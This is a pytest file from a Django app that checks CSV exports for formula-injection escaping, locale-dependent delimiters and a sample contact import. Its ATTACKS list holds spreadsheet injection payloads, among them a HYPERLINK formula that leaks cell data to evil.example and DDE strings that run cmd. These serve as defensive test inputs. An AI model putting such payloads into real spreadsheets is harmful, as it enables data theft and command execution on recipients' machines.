"""CSV files we hand out: no formula injection (issue 17, finding 5), the delimiter Excel expects in the
user's language and a sample import file (issue 18, item 8)."""
import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django_scopes import scopes_disabled

from chips import contacts
from chips.models import Campaign, CampaignRecipient, Contact
from chips.spreadsheets import safe_cell

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Clique")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def exported(client, campaign, language: str) -> tuple[str, list[list[str]]]:
    response = client.get(f"/campanhas/{campaign.pk}/destinatarios.csv", HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    delimiter = ";" if language.startswith("pt") else ","
    return text, list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


@pytest.fixture
def campaign_with_attacks(owner_client):
    with scopes_disabled():
        campaign = Campaign.objects.create(tenant=owner_client.tenant, name="Oferta", template="Oi {nome}")
        for number, name in enumerate([*ATTACKS, "Ana; Souza", "Bruno"]):
            CampaignRecipient.objects.create(tenant=owner_client.tenant, campaign=campaign,
                                             phone=f"+55119876500{number:02d}", name=name)
    return campaign


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(owner_client, campaign_with_attacks):
    _text, rows = exported(owner_client, campaign_with_attacks, "pt-br")
    names = {row[0] for row in rows[1:]}
    assert names == {"'" + attack for attack in ATTACKS} | {"Ana; Souza", "Bruno"}
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert row[1].startswith("'+55")  # a number in E.164 starts with "+": kept as text, not summed


def test_the_delimiter_follows_the_users_language(owner_client, campaign_with_attacks):
    text, rows = exported(owner_client, campaign_with_attacks, "pt-br")
    assert rows[0][:3] == ["nome", "telefone", "situação"] and len(rows[0]) == 10
    assert text.splitlines()[0].count(";") == 9
    assert [row[0] for row in rows if "Souza" in row[0]] == ["Ana; Souza"]  # quoted, not split
    text, rows = exported(owner_client, campaign_with_attacks, "en")
    assert rows[0][:3] == ["name", "phone", "situation"] and len(rows[0]) == 10
    assert text.splitlines()[0].count(",") == 9


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Ana", "Ana"), ("", ""), (None, ""), (12, "12"), (" =1", " =1"),
])
def test_safe_cell(value, safe):
    assert safe_cell(value) == safe


@pytest.mark.parametrize("language, delimiter, phone_column, city", [("pt-br", ";", "telefone", "cidade"),
                                                                     ("en", ",", "phone", "city")])
def test_the_sample_import_file_imports_as_it_is(owner_client, language, delimiter, phone_column, city):
    page = owner_client.get("/contatos/importar/", HTTP_ACCEPT_LANGUAGE=language).content.decode()
    assert 'id="sample-file"' in page
    response = owner_client.get("/contatos/importar/exemplo.csv", HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    sample = response.content
    header = sample.decode("utf-8-sig").splitlines()[0]
    assert header.split(delimiter)[1] == phone_column

    target = contacts.create_list(owner_client.tenant, f"Exemplo {language}")
    report = contacts.import_contacts(owner_client.tenant, SimpleUploadedFile("exemplo.csv", sample), target)
    assert report.ok and report.created == 2 and report.problems == []
    with scopes_disabled():
        ana = Contact.objects.get(tenant=owner_client.tenant, phone="+5511987654321")
    assert ana.name == "Ana Souza" and ana.consent_at is not None and ana.fields == {city: "Campinas"}
